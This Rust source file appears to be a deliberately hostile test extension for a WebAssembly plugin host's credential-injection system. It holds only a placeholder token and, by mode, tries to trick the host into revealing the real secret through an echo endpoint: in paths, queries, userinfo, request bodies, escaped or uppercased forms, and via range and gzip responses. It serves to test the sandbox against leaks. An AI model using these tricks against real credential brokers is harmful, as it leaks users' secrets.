//! A hostile extension built against `narakim:extension@0.2.0`: it asks for
//! a credential and tries every way to turn it into the value. It never
//! imports `secrets`, so it can only hold placeholders. `config.mode` picks
//! the attempt; `config.at`, `config.header`, `config.host` and
//! `config.reuse` steer it.

wit_bindgen::generate!({
    path: "../../../wit",
    world: "narakim:extension/extension@0.2.0",
    generate_all,
});

use narakim::extension0_2_0::credentials;
use narakim::extension0_2_0::log::{Level, log};
use narakim::extension0_2_0::types::{HeaderFormat, Injection, RequiredSecret};

struct Thief;

fn field<'a>(config: &'a str, key: &str) -> Option<&'a str> {
    config
        .split(&format!("\"{key}\":\""))
        .nth(1)
        .and_then(|rest| rest.split('"').next())
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// One request through wasi:http; returns the response's headers and body
/// as the guest sees them.
fn send(
    host: &str,
    path: &str,
    headers: &[(&str, String)],
    body: &str,
) -> Result<String, String> {
    use wasi::http::types::{Fields, IncomingBody, Method, OutgoingBody, OutgoingRequest, Scheme};
    use wasi::io::streams::StreamError;
    let fields = Fields::new();
    for (name, value) in headers {
        fields.append(name, value.as_bytes()).map_err(|e| format!("{e:?}"))?;
    }
    let request = OutgoingRequest::new(fields);
    request.set_method(&Method::Post).map_err(|()| "method")?;
    request.set_scheme(Some(&Scheme::Https)).map_err(|()| "scheme")?;
    request.set_authority(Some(host)).map_err(|()| "authority")?;
    request.set_path_with_query(Some(path)).map_err(|()| "path")?;
    let outgoing = request.body().map_err(|()| "body")?;
    {
        let stream = outgoing.write().map_err(|()| "stream")?;
        stream.blocking_write_and_flush(body.as_bytes()).map_err(|e| format!("{e:?}"))?;
    }
    OutgoingBody::finish(outgoing, None).map_err(|e| format!("{e:?}"))?;
    let future = wasi::http::outgoing_handler::handle(request, None).map_err(|e| format!("{e:?}"))?;
    let response = loop {
        if let Some(r) = future.get() {
            break r;
        }
        future.subscribe().block();
    };
    let response = response
        .map_err(|()| "response taken twice")?
        .map_err(|e| format!("http error: {e:?}"))?;
    let mut seen = Vec::new();
    for (name, value) in response.headers().entries() {
        seen.extend_from_slice(name.as_bytes());
        seen.extend_from_slice(b": ");
        seen.extend_from_slice(&value);
        seen.push(b'\n');
    }
    let body = response.consume().map_err(|()| "response body taken twice")?;
    {
        let stream = body.stream().map_err(|()| "response stream taken twice")?;
        loop {
            match stream.blocking_read(4096) {
                Ok(chunk) => seen.extend_from_slice(&chunk),
                Err(StreamError::Closed) => break,
                Err(e) => return Err(format!("reading the response: {e:?}")),
            }
        }
    }
    drop(IncomingBody::finish(body));
    Ok(String::from_utf8_lossy(&seen).into_owned())
}

impl Guest for Thief {
    fn describe() -> Description {
        Description {
            name: "thief".into(),
            version: "0.2.0".into(),
            description: "Holds a credential and tries to turn it into the value".into(),
            required_secrets: vec![RequiredSecret {
                name: "API_TOKEN".into(),
                hosts: vec!["api.example.test".into()],
                injection: Injection {
                    headers: vec![HeaderFormat { name: "authorization".into(), format: "Bearer {}".into() }],
                    path: false,
                    query: false,
                    body: false,
                },
            }],
            secret_fields: vec![],
            allowed_hosts: vec!["api.example.test".into(), "hooks.example.test".into()],
            host_fields: vec![],
        }
    }

    fn run(config: String, _input: String) -> Result<String, String> {
        let credential = credentials::get("API_TOKEN").map_err(|e| format!("{e:?}"))?;
        let p = credential.placeholder();
        // A placeholder is safe to show: in every record it is only itself.
        println!("placeholder {p}");
        eprintln!("placeholder {p}");
        log(Level::Info, &format!("placeholder {p}"));
        let host = field(&config, "host").unwrap_or("api.example.test");
        let p = field(&config, "reuse").map_or(p, str::to_owned);
        let header = field(&config, "header").unwrap_or("authorization");
        let sent = match field(&config, "mode").unwrap_or("") {
            "hmac" => {
                let mac = credential.hmac_sha256(b"message to sign");
                return Ok(format!("{{\"hmac\":\"{}\",\"hosts\":{:?}}}", hex(&mac), credential.hosts()));
            }
            "placeholder" => return Ok(format!("{{\"placeholder\":\"{p}\"}}")),
            // The declared place: the echo sends the value back.
            "header" => send(host, "/echo", &[(header, format!("Bearer {p}"))], "{}"),
            // The same request with no credential in it: the benchmark's
            // baseline.
            "plain" => send(host, "/echo", &[(header, "Bearer not-a-credential".into())], "{}"),
            "bare-header" => send(host, "/echo", &[(header, p.clone())], "{}"),
            "two" => send(host, "/echo", &[("authorization", format!("Bearer {p}{p}"))], "{}"),
            // A piece of the echo, or a compressed one, would carry the
            // value past the reflector.
            "range" => send(host, "/echo", &[("authorization", format!("Bearer {p}")), ("range", "bytes=40-43".into())], "{}"),
            // No credential in it: whatever the guest asks is sent as is.
            "plain-compressed" => send(host, "/gzip", &[("accept-encoding", "gzip".into())], "{}"),
            "compressed" => send(host, "/gzip", &[("authorization", format!("Bearer {p}")), ("accept-encoding", "gzip".into())], "{}"),
            // Asking again and again holds one placeholder, not one each.
            "many" => {
                let same = (0..10_000).all(|_| {
                    credentials::get("API_TOKEN").map(|c| c.placeholder() == p).unwrap_or(false)
                });
                return Ok(format!("{{\"same\":{same}}}"));
            }
            "path" => send(host, &format!("/echo/{p}"), &[], "{}"),
            "userinfo" => send(&format!("{p}@{host}"), "/echo", &[], "{}"),
            "query" => send(host, &format!("/echo?key={p}"), &[], "{}"),
            "body" => send(host, "/echo", &[("content-type", "application/json".into())], &format!("{{\"key\":\"{p}\"}}")),
            "body-escaped" => send(host, "/echo", &[], &p.replace('_', "\\u005f")),
            "query-escaped" => send(host, &format!("/echo?key={}", p.replace('_', "%5f")), &[], "{}"),
            "upper" => send(host, "/echo", &[("x-debug", p.to_uppercase())], "{}"),
            other => return Err(format!("unknown mode {other:?}")),
        };
        match sent {
            Ok(echo) => Ok(format!("{{\"echo\":{echo:?}}}")),
            Err(e) => Err(format!("refused: {e}")),
        }
    }
}

export!(Thief);
